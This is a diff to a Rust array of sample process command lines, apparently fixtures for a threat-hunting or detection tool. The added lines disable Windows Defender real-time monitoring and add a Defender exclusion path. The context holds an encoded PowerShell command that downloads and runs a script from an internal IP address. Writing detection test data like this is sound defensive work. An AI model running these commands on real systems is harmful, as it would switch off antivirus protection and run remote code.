@@ -277,6 +277,8 @@ const PROCS: &[Proc] = &[
             "powershell.exe -nop -w hidden -enc VwByAGkAdABlAC0ASABvAHMAdAAgACIAaABlAGwAbABvACAAZgByAG8AbQAgAGgAdQBuAHQAIgA=",
             "\"powershell.exe\" -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQAwAC4AMAAuADAALgA1AC8AYQAuAHAAcwAxACcAKQA=",
             "powershell.exe -Command \"Get-Process | Where-Object { $_.CPU -gt 100 }\"",
+            "powershell.exe -Command Set-MpPreference -DisableRealtimeMonitoring $true",
+            r"powershell.exe Add-MpPreference -ExclusionPath C:\Users\Public\Downloads",
         ],
     },
     Proc {
